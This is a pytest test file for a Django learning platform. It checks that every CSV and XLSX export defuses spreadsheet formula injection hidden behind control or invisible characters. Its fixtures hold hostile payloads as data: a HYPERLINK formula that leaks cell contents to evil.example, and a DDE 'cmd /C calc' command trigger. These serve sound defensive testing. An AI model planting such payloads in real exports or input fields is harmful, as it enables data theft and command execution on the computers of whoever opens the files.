"""A cell that starts with a control or invisible character followed by a
formula trigger ("\\x01=HYPERLINK(...)", "\\r+1-2", "\\x7f@SUM(...)") is
neutralised like a plain "=..." cell: a leading apostrophe, by the one shared
function (cms.spreadsheets.neutralise), in every export. Proved on real files:
CSV written to disk and read back with the csv module, XLSX read back with
openpyxl, and the site's own CSV and XLSX downloads."""

import csv
import io
import unicodedata

from django.urls import reverse
from django.utils import timezone

import openpyxl
import pytest

from cms import spreadsheets
from learning.reporting.batches import create_batch
from learning.reporting.excel import learners_xlsx
from learning.reporting.xlsx_stream import stream_xlsx
from mentoring.models import Role
from tests.factories import (
    GuidePageFactory,
    InstitutionFactory,
    InstitutionStaffFactory,
    LearnerFactory,
    LearningPathPageFactory,
    UserFactory,
)
from tests.factories.mentoring import ParticipationFactory, ProgrammeFactory

from .conftest import complete
from .report_fixtures import certify, learner, reporting_institution, reporting_path

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Bob")'
# A control or invisible character, then a trigger.
HIDDEN = (
    "\t=1+1",
    "\r+1-2",
    "\n@SUM(A1:A9)",
    f"\x01{FORMULA}",
    "\x01+1-cmd|' /C calc'!A0",
    "\x1b-2+3",
    "\x00@SUM(A1)",
    "\x7f=1+1",
    "\x85=1+1",
    "\u200b=1+1",
    "\ufeff@SUM(A1)",
    "\u3000=1+1",
    " \x01 =1+1",
    "\x02\x03-2+3",
)
# Text a spreadsheet only shows: left as it is.
HARMLESS = ("\x01plain text", "Maya R. Chen, MD", "-1.5", "+447700900123", "O'Brien-Smith")
TRIGGERS = tuple("=+-@＝＋－＠")


def _invisible(char):
    return unicodedata.category(char) in {"Cc", "Cf", "Zs", "Zl", "Zp"}


def live(value):
    """Would a spreadsheet read this text cell as a formula? Anything
    invisible in front of the trigger does not count."""
    if not isinstance(value, str) or value.startswith("'"):
        return False
    lead = value
    while lead and _invisible(lead[0]):
        lead = lead[1:]
    return lead.startswith(TRIGGERS) and not spreadsheets._NUMBER.fullmatch(lead.strip())


def assert_inert(values):
    found = [v for v in values if live(v)]
    assert not found, found


@pytest.mark.parametrize("typed", HIDDEN)
def test_neutralise_prefixes_a_trigger_behind_control_characters(typed):
    assert spreadsheets.neutralise(typed) == "'" + typed


@pytest.mark.parametrize("typed", HARMLESS)
def test_neutralise_leaves_harmless_text(typed):
    assert spreadsheets.neutralise(typed) == typed


@pytest.mark.parametrize("typed", HIDDEN)
def test_xlsx_cell_text_is_neutralised_after_cleaning(typed):
    cleaned = spreadsheets.cell_text(typed)
    assert cleaned.startswith("'") and not spreadsheets.ILLEGAL.search(cleaned)


def test_csv_file_read_back_has_every_hidden_formula_quoted(tmp_path):
    target = tmp_path / "export.csv"
    with target.open("w", newline="", encoding="utf-8") as handle:
        writer = spreadsheets.writer(handle)
        writer.writerow(["value"])
        writer.writerows([[typed] for typed in HIDDEN + HARMLESS])
        rows = spreadsheets.dict_writer(handle, ["a", "b"])
        rows.writerow({"a": HIDDEN[3], "b": HIDDEN[7]})
    with target.open(newline="", encoding="utf-8") as handle:
        read = list(csv.reader(handle))
    cells = [cell for row in read for cell in row]
    assert [row[0] for row in read[1 : 1 + len(HIDDEN)]] == ["'" + t for t in HIDDEN]
    assert [row[0] for row in read[1 + len(HIDDEN) : -1]] == list(HARMLESS)
    assert read[-1] == ["'" + HIDDEN[3], "'" + HIDDEN[7]]
    assert_inert(cells)


def test_xlsx_files_read_back_have_every_hidden_formula_quoted(tmp_path):
    # openpyxl's own writer (the PARS activities file) ...
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    for typed in HIDDEN:
        sheet.append([spreadsheets.cell_text(typed)])
    workbook.save(tmp_path / "openpyxl.xlsx")
    # ... and the streamed writer (the PARS learners file).
    streamed = tmp_path / "streamed.xlsx"
    streamed.write_bytes(b"".join(stream_xlsx("Sheet", [[typed] for typed in HIDDEN])))
    for name in ("openpyxl.xlsx", "streamed.xlsx"):
        cells = [c for row in openpyxl.load_workbook(tmp_path / name).active for c in row]
        assert all(c.data_type != "f" for c in cells)
        assert all(str(c.value).startswith("'") for c in cells), [c.value for c in cells]
        assert_inert([c.value for c in cells])


# ---------------------------------------------------------------------------
# The site's downloads.


def _csv(response):
    raw = b"".join(response.streaming_content) if response.streaming else response.content
    return [cell for row in csv.reader(io.StringIO(raw.decode("utf-8"))) for cell in row]


@pytest.mark.django_db
def test_cme_report_csvs(client, django_capture_on_commit_callbacks):
    institution = InstitutionFactory(name=HIDDEN[4])
    staff = InstitutionStaffFactory(username="staff-x")
    institution.staff.add(staff)
    path = LearningPathPageFactory(title=HIDDEN[3], slug="p", institution=institution)
    with django_capture_on_commit_callbacks(execute=True):
        complete(LearnerFactory(username="doc", profile__full_name=HIDDEN[5]), path)
    client.force_login(staff)
    summary = _csv(client.get(reverse("learning_reports_export")))
    assert "'" + HIDDEN[3] in summary
    assert_inert(summary)
    report = _csv(client.get(reverse("learning_path_report_csv", args=(path.pk,))))
    assert_inert(report)


@pytest.mark.django_db
def test_transcript_csv(client, django_capture_on_commit_callbacks):
    institution = InstitutionFactory(name=HIDDEN[4])
    path = LearningPathPageFactory(title=HIDDEN[3], slug="path", institution=institution)
    doctor = LearnerFactory(username="doc", profile__full_name="Yara Young")
    with django_capture_on_commit_callbacks(execute=True):
        complete(doctor, path)
    client.force_login(doctor)
    cells = _csv(client.get("/me/transcript/transcript.csv"))
    assert "'" + HIDDEN[3] in cells and "'" + HIDDEN[4] in cells
    assert_inert(cells)


@pytest.mark.django_db
def test_mentoring_programme_report_csv(client, monkeypatch):
    # Its rows hold fixed group labels and figures only; a label with a
    # hidden formula proves the file goes through the shared writer.
    from mentoring.reports import export

    original = export._row
    monkeypatch.setattr(export, "_row", lambda label, figures: original(HIDDEN[3], figures))
    institution = InstitutionFactory(name=HIDDEN[3])
    staff = InstitutionStaffFactory(username="staff-m")
    institution.staff.add(staff)
    programme = ProgrammeFactory(institution=institution, title=HIDDEN[3], slug="prog")
    ParticipationFactory(programme=programme, user=UserFactory(), role=Role.MENTEE)
    client.force_login(staff)
    response = client.get(reverse("mentoring_programme_report_csv", args=(programme.pk,)))
    assert response.status_code == 200
    cells = _csv(response)
    assert "'" + HIDDEN[3] in cells
    assert_inert(cells)


@pytest.fixture
def hidden_pages(db):
    now = timezone.now()
    # PostgreSQL's text cannot hold NUL, so no page title can; the tests of
    # the writers above cover it.
    titles = [title for title in HIDDEN[3:9] if "\x00" not in title]
    for i, title in enumerate(titles):
        GuidePageFactory(title=title, slug=f"hidden-{i}", last_published_at=now)


def test_wagtail_report_csv(client, hidden_pages):
    client.force_login(UserFactory(username="root", superuser=True))
    cells = _csv(client.get("/admin/reports/aging-pages/?export=csv"))
    assert "'" + HIDDEN[3] in cells
    assert_inert(cells)


def test_wagtail_report_xlsx(client, hidden_pages, tmp_path):
    client.force_login(UserFactory(username="root", superuser=True))
    response = client.get("/admin/reports/aging-pages/?export=xlsx")
    assert response.status_code == 200
    target = tmp_path / "aging.xlsx"
    target.write_bytes(b"".join(response.streaming_content))
    cells = [c for sheet in openpyxl.load_workbook(target) for row in sheet for c in row]
    assert all(c.data_type != "f" for c in cells)
    assert "'\x7f=1+1" in [c.value for c in cells]  # DEL is legal in XML: kept, quoted
    assert_inert([c.value for c in cells])


@pytest.mark.django_db
def test_pars_learners_xlsx(tmp_path):
    institution, staff = reporting_institution(name=HIDDEN[7], slug="hid")
    path = reporting_path(institution, title=HIDDEN[8])
    certify(learner("doctor-x", HIDDEN[3], "\u200b-Smith"), path)
    batch = create_batch(institution, "CME", staff)
    target = tmp_path / "learners.xlsx"
    target.write_bytes(learners_xlsx(batch))
    values = [c.value for row in openpyxl.load_workbook(target).active for c in row]
    # Names lose what PARS cannot hold (the zero-width space), then are neutralised.
    assert "'-Smith" in values and "'" + FORMULA in values
    assert values[0].startswith("'" + HIDDEN[7])  # the guidance line names the institution
    assert_inert(values)
